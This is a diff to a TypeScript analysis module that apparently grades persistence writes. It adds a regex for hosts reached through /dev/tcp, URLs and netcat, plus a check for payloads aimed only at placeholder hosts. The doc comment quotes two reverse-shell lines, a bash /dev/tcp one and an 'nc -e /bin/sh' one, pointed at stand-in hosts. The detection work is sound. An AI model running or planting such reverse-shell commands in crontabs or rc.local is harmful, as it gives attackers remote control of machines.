@@ -1,4 +1,5 @@
 import type { BehaviourOf, Value } from '../../analysis/facts.js';
+import { classifyHost } from '../../analysis/hosts.js';
 
 /** What a write puts in place, as the persistence rule grades it. */
 
@@ -16,6 +17,27 @@ export function runsCode(v: Value | undefined): boolean {
       v.text,
     )
   );
+}
+
+/** The hosts written code connects to or downloads from: `/dev/tcp/HOST/`, a URL's host, `nc [-opts] HOST PORT`. */
+const PAYLOAD_HOSTS =
+  /\/dev\/(?:tcp|udp)\/([^/\s"'`]{1,100})\/|\b[a-z][\w+.-]{0,20}:\/\/([^/\s"'`:]{1,200})|\b(?:nc|ncat|netcat)(?:\s{1,4}-[\w-]{1,20}(?:\s{1,4}\/[\w/.-]{1,40})?){0,4}\s{1,4}([\w.-]{1,100})\s{1,4}\d{1,5}\b/g;
+
+/**
+ * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
+ * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
+ * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
+ * anyone as written. A variable or an ordinary host is not a placeholder.
+ */
+export function placeholderPayload(v: Value | undefined): boolean {
+  if (!v) return false;
+  const hosts: string[] = [];
+  for (const m of v.text.matchAll(PAYLOAD_HOSTS)) {
+    if (hosts.length >= 16) break;
+    hosts.push(m[1] ?? m[2] ?? m[3] ?? '');
+  }
+  if (v.taints.includes('download')) hosts.push(v.from ?? '');
+  return hosts.length > 0 && hosts.every((h) => classifyHost(h) === 'placeholder');
 }
 
 /** A relative path, literal: inside the repository (no home, root, variable or drive). */
